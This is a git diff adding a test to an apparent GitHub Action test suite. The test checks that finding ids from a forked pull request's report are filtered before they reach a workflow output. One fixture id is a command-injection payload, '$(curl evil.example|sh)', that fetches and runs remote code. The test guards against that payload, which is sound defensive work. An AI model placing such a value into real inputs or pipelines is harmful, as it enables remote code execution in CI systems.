@@ -10,7 +10,7 @@ import { runInProcess, type InProcessResult } from '../helpers/fake-action-host.
 import type { FakeGitHub } from '../helpers/fake-github.js';
 import { crc32, deflatedZip } from '../helpers/fake-github-zip.js';
 import { useFakeGitHub } from '../helpers/fake-github-runner.js';
-import { makeReport, row } from '../report/report-factory.js';
+import { finding, makeReport, row } from '../report/report-factory.js';
 
 const REPOSITORY = { full_name: 'octo/gpu-app', default_branch: 'main' };
 const HEAD = 'b'.repeat(40);
@@ -61,6 +61,15 @@ describe('fork-safe: pull_request uploads, workflow_run comments', () => {
     expect(fake.commentsOn(7)).toHaveLength(0);
     expect(r.warnings.some((w) => w.startsWith('PR #7 named by the artifacts has head cccccccccccc, not the commit bbbbbbbbbbbb'))).toBe(true);
     expect(r.summary).toContain('## profile-gate: ⚠️ Warn · llama');
+  });
+
+  // Before, every id of the reports went into the findings output, a fork's shell syntax included.
+  it("the findings output carries only known finding ids: a fork's report cannot put shell syntax into it", async () => {
+    const report = makeReport({ verdict: 'warn', findings: [finding({ id: 'host-bound' }), finding({ id: '$(curl evil.example|sh)' }), finding({ id: 'unfused-attention', severity: 'error' })] });
+    fake.addArtifact(710, 'profile-gate-a', { 'profile-gate/report.json': serializeReport(report) });
+    const r = await runInProcess({ fake, runId: 711, eventName: 'workflow_run', event: workflowRun(710), inputs: { mode: 'report', comment: 'off' } });
+    expect(r.code).toBe(0);
+    expect(r.outputs['findings']).toBe('host-bound,unfused-attention');
   });
 
   it('trusts the PR GitHub links to the run without asking', async () => {
